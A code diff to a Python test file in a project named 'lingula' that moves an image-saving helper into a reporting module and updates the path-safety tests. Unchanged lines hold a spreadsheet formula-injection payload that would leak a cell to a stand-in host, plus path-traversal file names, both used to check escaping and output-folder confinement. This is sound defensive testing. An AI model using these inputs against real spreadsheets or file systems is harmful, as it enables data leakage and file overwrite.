@@ -18,6 +18,7 @@ import lingula
 from lingula.model.checkpoint import newest_checkpoint
 from lingula.model.text import embed
 from lingula.model.text_encoder import save_tiny
+from lingula.reporting.attention import save_picture
 from lingula.reporting.ladder import Ladder, Line, to_csv
 from lingula.reporting.review import apply_corrections, disagreements, write_corrections
 from lingula.scores.ensembles import model_wise
@@ -33,7 +34,6 @@ from lingula.tables.reading import read_boxes, read_table, write_table
 from lingula.tables.table import Table
 from lingula.training import examples
 from lingula.verbs import ensemble as ensemble_verb
-from lingula.verbs import explain
 
 SIGNS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
 EVIL = '=HYPERLINK("http://x/?"&A1)'
@@ -221,7 +221,7 @@ def test_a_map_runs_nothing(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> 
 @pytest.mark.parametrize("name", ["../x", "../../etc/x.png", "/etc/x", r"C:\x", "a\0b", "..", "."])
 def test_an_id_never_names_a_file_outside_the_output(tmp_path: Path, name: str) -> None:
     out = tmp_path / "out"
-    place = explain._save(Image.new("L", (4, 4)), out, name, "../y")
+    place = save_picture(Image.new("L", (4, 4)), out, name, "../y")
     written = [path for path in tmp_path.rglob("*") if path.is_file()]
     assert written == [out / place] and written[0].parent == out / "overlays"
 
@@ -229,7 +229,7 @@ def test_an_id_never_names_a_file_outside_the_output(tmp_path: Path, name: str) 
 def test_films_of_like_names_have_pictures_of_their_own(tmp_path: Path) -> None:
     film = Image.new("L", (4, 4))
     places = {
-        explain._save(film, tmp_path, name, "film") for name in ("a/b.png", "a_b.png", "a b.png")
+        save_picture(film, tmp_path, name, "film") for name in ("a/b.png", "a_b.png", "a b.png")
     }
     assert len(places) == 3 and "overlays/a_b.png--film.png" in places
 
